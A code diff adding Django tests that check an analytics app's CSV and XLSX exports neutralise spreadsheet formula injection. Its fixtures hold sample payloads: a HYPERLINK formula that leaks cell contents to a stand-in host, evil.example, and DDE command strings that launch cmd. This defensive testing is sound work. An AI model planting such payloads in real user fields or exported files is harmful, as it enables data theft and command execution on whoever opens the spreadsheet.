@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from decimal import Decimal
 from typing import Any
 
 import openpyxl  # type: ignore[import-untyped]
@@ -12,9 +13,11 @@ import tablib  # type: ignore[import-untyped]
 import time_machine
 from django.http import StreamingHttpResponse
 
-from chorus.analytics.exports import TABLES
+from chorus.analytics.exports import TABLES, csv_cell
+from chorus.analytics.models import DailyShareStats
 from chorus.analytics.selectors import NOT_RANKED, OTHER_GROUP
-from chorus.analytics.tests.test_dashboard import build_world, value_settings
+from chorus.analytics.tests.test_dashboard import build_world, coarse_rollups, value_settings
+from chorus.factories import DailyShareStatsFactory
 
 PERIOD = {"date_from": "2026-03-02", "date_to": "2026-03-31"}
 
@@ -136,3 +139,101 @@ def test_too_many_rows_for_xlsx_are_refused_with_a_reason(client, world, monkeyp
         "5 rows are too many for XLSX: export them as CSV, or a shorter range."
     )
     assert export(client, "rows", "csv").status_code == 200
+
+
+# -- formula injection ------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+COMMAND = "+cmd|' /C calc'!A0"
+CAMPAIGN = "@SUM(1)"
+MINUS = "-2+3+cmd|' /C calc'!A0"
+TAB = "\t=1+2"
+RETURN = "\r=1+2"
+
+
+@pytest.fixture
+def hostile_world(world: Any) -> Any:
+    """The world with formula-like names, titles, a campaign and a group; and a figure
+    that fell (a negative change)."""
+    for member, name in ((world.bob, HYPERLINK), (world.cleo, MINUS)):
+        member.user.name = name
+        member.user.save(update_fields=["name"])
+    world.launch.title = COMMAND
+    world.launch.save(update_fields=["title"])
+    world.hiring.title = TAB
+    world.hiring.save(update_fields=["title"])
+    world.sales.name = RETURN
+    world.sales.save(update_fields=["name"])
+    DailyShareStats.objects.filter(organization=world.organization).update(campaign=CAMPAIGN)
+    # 3 replies this period against 50 before: -94.0 %.
+    DailyShareStatsFactory(
+        post=world.launch, membership=world.bob, network="linkedin", day="2026-02-16", replies=50
+    )
+    coarse_rollups()
+    return world
+
+
+def xlsx_cells(response: Any) -> list[Any]:
+    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    return [cell for row in workbook.active.iter_rows() for cell in row]
+
+
+def test_csv_exports_show_formula_like_text_as_text(client, hostile_world):
+    client.force_login(hostile_world.ada.user)
+    members = csv_rows(export(client, "members", "csv"))
+    assert ["'" + HYPERLINK, "1", "40", "13", "300"] in members
+    assert ["'" + MINUS, "1", "20", "5", "100"] in members
+    posts = [row[0] for row in csv_rows(export(client, "posts", "csv"))[1:]]
+    assert sorted(posts) == sorted(["'" + COMMAND, "'" + TAB])
+    groups = csv_rows(export(client, "groups", "csv"))
+    assert groups[1][0] == "'" + RETURN
+    every_row = csv_rows(export(client, "rows", "csv"))
+    assert {row[2] for row in every_row[1:]} == {"'" + COMMAND, "'" + TAB}
+    assert {row[5] for row in every_row[1:]} == {"'" + CAMPAIGN}
+    assert "'" + HYPERLINK in {row[3] for row in every_row[1:]}
+    # Normal CSV quoting still applies around the quote.
+    raw = b"".join(export(client, "members", "csv").streaming_content).decode()
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"' in raw
+    # Numbers, negative ones too, are not text and stay as they are.
+    totals = csv_rows(export(client, "totals", "csv"))
+    assert ["Replies", "3", "50", "-94.0"] in totals
+
+
+def test_xlsx_exports_write_formula_like_text_as_text_cells(client, hostile_world):
+    client.force_login(hostile_world.ada.user)
+    cells = []
+    for table in ("members", "posts", "groups", "rows", "totals"):
+        cells += xlsx_cells(export(client, table, "xlsx"))
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    text = {cell.value for cell in cells if cell.data_type == "s"}
+    assert {HYPERLINK, MINUS, COMMAND, TAB, RETURN, CAMPAIGN} <= text
+    change = [cell for cell in cells if cell.value == -94.0]
+    assert [cell.data_type for cell in change] == ["n"]
+
+
+def test_a_members_own_export_shows_formula_like_text_as_text(client, hostile_world):
+    client.force_login(hostile_world.dan.user)
+    with time_machine.travel("2026-03-31 12:00:00+00:00", tick=False):
+        rows = csv_rows(client.get("/analytics/me/export/", {"format": "csv"}))
+        cells = xlsx_cells(client.get("/analytics/me/export/", {"format": "xlsx"}))
+    assert rows[1][2:5] == ["'" + TAB, "linkedin", "'" + CAMPAIGN]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    assert {(cell.value, cell.data_type) for cell in cells} >= {(TAB, "s"), (CAMPAIGN, "s")}
+
+
+def test_formula_like_text_is_neutralised_and_numbers_are_not():
+    assert csv_cell("=1+2") == "'=1+2"
+    assert [csv_cell(value) for value in ("+1", "-1", "@a", "\ta", "\ra")] == [
+        "'+1",
+        "'-1",
+        "'@a",
+        "'\ta",
+        "'\ra",
+    ]
+    assert [csv_cell(value) for value in (-5, -2.5, Decimal("-1.50"), None, "a=1")] == [
+        -5,
+        -2.5,
+        Decimal("-1.50"),
+        "",
+        "a=1",
+    ]
